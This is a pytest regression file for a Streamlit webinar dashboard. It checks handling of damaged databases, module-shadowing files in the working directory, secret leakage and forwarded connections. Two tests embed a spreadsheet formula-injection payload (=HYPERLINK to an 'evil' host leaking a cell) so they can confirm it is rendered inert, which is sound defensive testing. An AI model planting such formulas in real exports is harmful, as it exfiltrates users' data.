"""Hostile and accidental input: the regression tests of issue 9's reproduced cases."""

import os
import shutil

import pytest
from streamlit.testing.v1 import AppTest

from dashboard import cli
from dashboard.settings import APP_SCRIPT


@pytest.fixture
def damaged_db(tiny_db_file, tmp_path):
    """The hand-made programme's file with a stretch of its blocks overwritten."""
    path = tmp_path / "damaged.duckdb"
    shutil.copy(tiny_db_file, path)
    size = path.stat().st_size
    with path.open("r+b") as f:
        f.seek(size // 3)
        f.write(b"\x5a" * min(200_000, size // 2))
    return path


@pytest.fixture
def not_a_database(tmp_path):
    path = tmp_path / "notes.duckdb"
    path.write_bytes(b"these are meeting notes, not a database " * 100)
    return path


@pytest.mark.parametrize("which", ["damaged_db", "not_a_database"])
def test_report_on_a_damaged_file_is_one_sentence(which, request, capsys):
    path = request.getfixturevalue(which)
    assert cli.main(["report", "--db", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("reach report: ") and "damaged" in err and "restore it from a backup copy" in err
    assert "Traceback" not in err and err.count("\n") == 1


@pytest.mark.parametrize(("lang", "says"), [
    ("en", "cannot be read: it is damaged. Stop the server and restore the file from a backup"),
    ("ru", "не читается: он повреждён. Остановите сервер и восстановите файл из резервной копии"),
])  # fmt: skip
@pytest.mark.parametrize("page", ["views/overview.py", "views/live.py", "views/data.py"])
def test_a_damaged_file_is_explained_on_every_page_never_a_traceback(not_a_database, monkeypatch, page, lang, says):
    monkeypatch.setenv("REACH_DB", str(not_a_database))
    at = AppTest.from_file(str(APP_SCRIPT), default_timeout=60)
    at.query_params["lang"] = lang
    at.switch_page(page).run()
    assert not at.exception
    assert [says in e.value and str(not_a_database) in e.value for e in at.error] == [True]


def test_the_server_runs_with_a_safe_import_path_and_no_error_details():
    command = cli.streamlit_command(8501)
    assert command[:4] == [command[0], "-P", "-m", "streamlit"]  # the working directory is not on sys.path
    assert command[command.index("--client.showErrorDetails") + 1] == "none"


def test_serve_from_a_folder_of_downloaded_files_runs_none_of_them(tiny_db_file, tmp_path):
    """A streamlit.py in the working directory would have been imported instead of Streamlit."""
    from tests.serving import serve, stop

    trap = tmp_path / "marker"
    for name in ("streamlit.py", "pandas.py", "duckdb.py"):
        (tmp_path / name).write_text(f"open({str(trap)!r}, 'a').write('{name}\\n')\n")
    proc, url = serve(tiny_db_file, {}, cwd=tmp_path)
    stop(proc)
    assert not trap.exists()


def test_an_out_of_range_date_link_shows_the_overview_with_a_note(tiny_db_file, monkeypatch):
    monkeypatch.setenv("REACH_DB", str(tiny_db_file))
    at = AppTest.from_file(str(APP_SCRIPT), default_timeout=60)
    at.query_params["lang"] = "en"
    at.query_params["to"] = "2000-01-01"
    at.run()
    assert not at.exception
    assert [w.value for w in at.warning] == ["Some link parameters were not recognised and were ignored: to=2000-01-01"]
    assert {m.label: m.value for m in at.metric}["Participants"] == "5"


def test_no_environment_leaks_into_the_command():
    assert "REACH_INGEST_SECRET" not in " ".join(cli.streamlit_command(8501)) and os.sep in cli.streamlit_command(1)[0]


def test_formula_like_text_is_inert_and_numbers_stay_numbers():
    import pandas as pd

    from dashboard.spreadsheet_safety import formula_safe

    table = pd.DataFrame({
        "title": ['=HYPERLINK("http://x/?leak="&B2,"Open agenda")', "+7 495", "-ok", "@SUM(A1)", "\tTab", "\rCR",
                  "Plain", None],
        "participants": [1, 2, 3, 4, 5, 6, -7, 8],
    })  # fmt: skip
    safe = formula_safe(table)
    assert safe["title"].tolist()[:7] == ["'=HYPERLINK(\"http://x/?leak=\"&B2,\"Open agenda\")", "'+7 495", "'-ok",
                                          "'@SUM(A1)", "'\tTab", "'\rCR", "Plain"]  # fmt: skip
    assert pd.isna(safe["title"].iloc[7])  # a missing title stays missing
    assert safe["participants"].tolist() == [1, 2, 3, 4, 5, 6, -7, 8]
    assert table["title"][0].startswith("=")  # the original is left as it was


def test_a_hostile_webinar_title_is_text_in_the_overview_table(tiny_db_file, monkeypatch):
    from dashboard import database

    con = database.connect(tiny_db_file)
    hostile = '=HYPERLINK("http://evil/?leak="&B2,"Open agenda")'
    con.execute("update events set title = $t where event_key = 'w1'", {"t": hostile})
    with database.transaction(con):
        database.refresh(con)
    con.close()
    monkeypatch.setenv("REACH_DB", str(tiny_db_file))
    at = AppTest.from_file(str(APP_SCRIPT), default_timeout=60)
    at.query_params["lang"] = "en"
    at.run()
    assert not at.exception
    titles = at.dataframe[0].value["Webinar"].tolist()
    assert titles[0] == "'=HYPERLINK(\"http://evil/?leak=\"&B2,\"Open agenda\")"  # Streamlit's own download: text


@pytest.mark.parametrize(("headers", "direct"), [
    ({}, True),
    ({"Host": "localhost:8501"}, True),
    ({"Host": "127.0.0.1:8501"}, True),
    ({"Host": "[::1]:8501"}, True),
    ({"Host": "192.168.1.20:9000"}, False),  # a TCP forwarder: the browser elsewhere used this name
    ({"Host": "reach.example.org"}, False),
    ({"Host": "localhost:8501", "X-Forwarded-For": "10.0.0.7"}, False),  # an HTTP proxy
    ({"Host": "localhost:8501", "Forwarded": "for=10.0.0.7"}, False),
])  # fmt: skip
def test_a_loopback_connection_is_this_computer_only_when_nothing_forwards_it(headers, direct):
    from dashboard.ui import reached_directly

    assert reached_directly(headers) is direct
